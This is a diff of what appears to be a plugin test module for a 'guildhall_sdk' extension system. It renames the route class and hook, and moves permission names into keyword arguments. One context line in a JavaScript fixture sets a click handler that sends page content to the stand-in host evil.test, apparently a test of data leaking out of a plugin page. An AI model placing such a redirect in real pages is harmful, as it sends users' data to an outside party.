@@ -166,7 +166,7 @@ document.getElementById("tries").textContent = shown;
 document.body.onclick = () => { location.href = "https://evil.test/?" + encodeURIComponent(shown); };
 """
 PLUGIN = """
-from guildhall_sdk import ExtensionRoute, hookimpl
+from guildhall_sdk import Route, hookimpl
 from guildhall_sdk.schema import obj, string
 
 BODY = obj({"text": string()})
@@ -177,12 +177,12 @@ async def answer(call):
 
 
 @hookimpl
-def declare_extension_routes():
+def declare_routes():
     return [
-        ExtensionRoute("GET", "/secret", "search", answer, "One's own"),
-        ExtensionRoute("GET", "/slow", "search", answer, "One's own"),
-        ExtensionRoute("PUT", "/secret", "search", answer, "One's own", body=BODY),
-        ExtensionRoute("POST", "/secret", "settings:manage", answer, "For admins", body=obj({})),
+        Route("GET", "secret", answer, "One's own", permission="search"),
+        Route("GET", "slow", answer, "One's own", permission="search"),
+        Route("PUT", "secret", answer, "One's own", permission="search", body=BODY),
+        Route("POST", "secret", answer, "For admins", permission="settings:manage", body=obj({})),
     ]
 """
 MANIFEST = {
